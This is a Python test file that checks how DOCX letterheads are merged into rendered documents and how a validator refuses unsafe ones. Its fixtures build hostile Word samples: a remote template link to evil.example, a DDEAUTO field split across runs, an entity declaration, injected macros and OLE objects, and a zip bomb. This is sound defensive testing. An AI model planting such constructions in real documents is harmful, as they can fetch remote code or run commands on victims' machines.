"""A letterhead: what of it is used, and what may not be in it."""

import zipfile
from io import BytesIO

import pytest
from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Mm, Pt, RGBColor

from missions.documents import docx
from missions.documents.comparing import differences
from missions.documents.letterhead import LARGEST, LetterheadError, check
from missions.documents.reading import read
from missions.documents.words import WORDS

HEAD, FOOT, BODY = "House of Rivers · Founded 1901", "1 Lake Street", "Text of the letterhead"
RED = RGBColor(0xAA, 0, 0)
EVIL = '<!DOCTYPE w:x [<!ENTITY a "b">]>'
LINK = (
    '<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/x.dotm"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)
DDE = (
    "<w:p><w:r><w:instrText>DD</w:instrText></w:r>"
    "<w:r><w:instrText>EAUTO c</w:instrText></w:r></w:p>"
)


def letterhead(*, numbers=False):
    document = Document()
    document.add_paragraph(BODY)
    section = document.sections[0]
    section.left_margin, section.right_margin = Mm(40), Mm(30)
    section.header.paragraphs[0].text = HEAD
    section.footer.paragraphs[0].text = FOOT
    if numbers:
        docx.fields.add_field(section.footer.paragraphs[0], " PAGE ")
    document.styles["Heading 1"].font.color.rgb = RED
    document.styles["Normal"].font.name = "Georgia"
    document.styles["Normal"].font.size = Pt(10)
    document.styles.add_style("House", WD_STYLE_TYPE.PARAGRAPH)
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def changed(entry, old="", new="", *, name=""):
    """Put something else into a letterhead: a part of its own, or words in one of its parts."""
    source, target = zipfile.ZipFile(BytesIO(letterhead())), BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for item in source.namelist():
            text = source.read(item)
            if item == entry:
                text = text.replace(old.encode(), new.encode(), 1)
            archive.writestr(item, text)
        if name:
            archive.writestr(name, b"x")
    return target.getvalue()


def test_a_letterhead_gives_head_foot_margins_and_styles(content):
    document = Document(BytesIO(docx.render(content, letterhead=letterhead())))

    [section] = document.sections
    words = WORDS[content.language]
    heads = [p.text for p in section.header.paragraphs]
    assert heads == [HEAD, f"{words['demonstration']}\n{words['preview']}"]
    feet = [p.text for p in section.footer.paragraphs]
    assert feet == [FOOT, f"{words['page']} 1 {words['of']} 1"]
    assert (round(section.left_margin.mm), round(section.right_margin.mm)) == (40, 30)
    assert document.styles["Heading 1"].font.color.rgb == RED
    assert document.styles["Normal"].font.name == "Georgia"
    assert document.styles["Table Text"].font.name is None  # it takes the letterhead's
    text = "\n".join(p.text for p in document.paragraphs)
    assert BODY not in text
    assert [s.title for s in content.sections if s.title not in text.replace("\u00a0", " ")] == []


def test_a_letterhead_that_counts_its_pages_gets_no_second_number(content):
    document = Document(BytesIO(docx.render(content, letterhead=letterhead(numbers=True))))

    assert [p.text for p in document.sections[0].footer.paragraphs] == [f"{FOOT}1"]


def test_tables_are_as_wide_as_the_letterhead_leaves_room(content):
    document = Document(BytesIO(docx.render(content, letterhead=letterhead())))
    [section] = document.sections

    room = section.page_width - section.left_margin - section.right_margin
    for table in document.tables:
        widths = [column.width for column in table.columns]
        assert abs(sum(widths) - room) < Mm(1)
        assert min(widths) > Mm(9)


def test_a_document_on_a_letterhead_is_known_again_and_a_changed_head_is_not(content):
    on = letterhead()
    data = docx.render(content, letterhead=on)

    assert differences(read(data), content, on) == ()
    document = Document(BytesIO(data))
    document.sections[0].header.paragraphs[0].text = "Approved by nobody"
    file = BytesIO()
    document.save(file)
    [found] = differences(read(file.getvalue()), content, on)
    assert (found.place, found.found) == ("head of the page", "Approved by nobody")


def test_a_plain_letterhead_is_taken():
    check(letterhead())
    check(letterhead(numbers=True))


RELS, TEXT, TYPES = "word/_rels/document.xml.rels", "word/document.xml", "[Content_Types].xml"


PLAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@pytest.mark.parametrize(
    ("code", "data"),
    [
        ("large", b"PK" + b"\0" * LARGEST),
        ("no_docx", b""),
        ("no_docx", b"%PDF-1.7"),
        ("no_docx", b"PK\x03\x04 no archive"),
        ("no_docx", changed(TYPES, PLAIN, "application/other+xml")),
        ("macros", changed("", name="word/vbaProject.bin")),
        ("macros", changed(TYPES, PLAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("program", changed("", name="word/embeddings/oleObject1.bin")),
        ("program", changed("", name="word/activeX/activeX1.xml")),
        ("program", changed(TEXT, "<w:sectPr", "<w:altChunk/><w:sectPr")),
        ("outside", changed(RELS, "</Relationships>", f"{LINK}</Relationships>")),
        ("outside", changed(TEXT, "<w:sectPr", f"{DDE}<w:sectPr")),
        ("broken", changed(TEXT, "<w:document", f"{EVIL}<w:document")),
        ("broken", changed(TEXT, "</w:body>", "</w:bod>")),
        ("broken", changed("word/styles.xml", "</w:styles>", "")),
    ],
)
def test_what_is_no_plain_letterhead_is_refused_with_its_reason(code, data):
    with pytest.raises(LetterheadError) as refused:
        check(data)

    assert refused.value.code == code


def test_a_letterhead_that_unpacks_to_very_much_is_refused():
    data = BytesIO(letterhead())
    with zipfile.ZipFile(data, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/image1.png", b"\0" * 30_000_000)

    with pytest.raises(LetterheadError) as refused:
        check(data.getvalue())
    assert refused.value.code == "large"
